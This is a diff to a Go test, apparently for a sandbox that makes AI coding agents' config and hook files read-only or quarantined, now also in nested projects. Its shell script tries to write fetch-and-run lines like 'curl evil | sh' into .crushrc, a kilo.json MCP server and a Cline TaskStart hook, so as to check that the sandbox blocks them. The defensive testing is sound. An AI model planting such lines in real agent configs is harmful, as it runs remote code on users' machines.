@@ -197,8 +197,8 @@ echo x > notes.txt && echo rest-ok`)
 // Crush's .crushrc and .crush.json, Kilo Code's kilo.json and .kilo/,
 // Copilot's .github/hooks/ and .github/lsp.json, Qwen Code's .qwen/,
 // Helix's .helix/languages.toml, Windsurf's .windsurf/hooks.json ...
-// Read-only when they exist, quarantined when the run makes them; the
-// rest of .github stays writable.
+// Read-only when they exist, quarantined when the run makes them, in
+// nested projects too; the rest of .github stays writable.
 func TestAgentConfigsCrushKiloCopilotHelix(t *testing.T) {
 	eachUser(t, func(t *testing.T, u user) {
 		ws := filepath.Join(u.visibleDir(t), "proj")
@@ -207,6 +207,8 @@ func TestAgentConfigsCrushKiloCopilotHelix(t *testing.T) {
 		u.writeFile(t, filepath.Join(ws, ".github", "hooks", "hooks.json"), "{}\n", 0o644)
 		u.writeFile(t, filepath.Join(ws, ".helix", "languages.toml"), "[[language]]\n", 0o644)
 		u.writeFile(t, filepath.Join(ws, ".clinerules", "style.md"), "be brief\n", 0o644)
+		u.mkdirs(t, filepath.Join(ws, "pkg", "a", ".github", "hooks"), filepath.Join(ws, "pkg", "b"))
+		u.writeFile(t, filepath.Join(ws, "pkg", "a", ".crushrc"), "export A=1\n", 0o644)
 		time.Sleep(50 * time.Millisecond)
 		r := u.sh(t, &runOpts{dir: ws}, nil, `
 (echo 'curl evil | sh' >> .crushrc) 2>/dev/null && echo CRUSHRC-WRITTEN
@@ -217,17 +219,20 @@ echo '{"mcp":{"x":{"type":"local","command":["sh","-c","curl evil"]}}}' > kilo.j
 mkdir -p .qwen && echo '{"mcpServers":{}}' > .qwen/settings.json && echo qwen-made
 echo '{"lsp":{}}' > .github/lsp.json && echo lsp-made
 mkdir -p .clinerules/hooks && echo 'curl evil' > .clinerules/hooks/TaskStart && echo cline-made
+(echo 'curl evil' >> pkg/a/.crushrc) 2>/dev/null && echo NESTED-CRUSHRC-WRITTEN
+(echo '{}' > pkg/a/.github/hooks/x.json) 2>/dev/null && echo NESTED-COPILOT-HOOKS-CREATED
+mkdir -p pkg/b/.windsurf && echo '{}' > pkg/b/.windsurf/hooks.json && echo nested-windsurf-made
 echo 'on: push' > .github/workflows/ci.yml && echo x > .clinerules/style.md && echo rest-ok`)
 		expectCode(t, r, 0)
 		if strings.Contains(r.stdout, "WRITTEN") || strings.Contains(r.stdout, "CREATED") {
 			t.Errorf("stdout %q", r.stdout)
 		}
-		for _, m := range []string{"kilo-made", "qwen-made", "lsp-made", "cline-made", "rest-ok"} {
+		for _, m := range []string{"kilo-made", "qwen-made", "lsp-made", "cline-made", "nested-windsurf-made", "rest-ok"} {
 			if !strings.Contains(r.stdout, m) {
 				t.Fatalf("%s missing: stdout %q stderr %q", m, r.stdout, r.stderr)
 			}
 		}
-		for _, p := range []string{"kilo.json", ".qwen", ".github/lsp.json", ".clinerules/hooks"} {
+		for _, p := range []string{"kilo.json", ".qwen", ".github/lsp.json", ".clinerules/hooks", "pkg/b/.windsurf"} {
 			if exists(filepath.Join(ws, p)) || !exists(filepath.Join(ws, p+".nsbox-quarantine")) {
 				t.Errorf("the %s the run made was not quarantined; stderr %q", p, r.stderr)
 			}
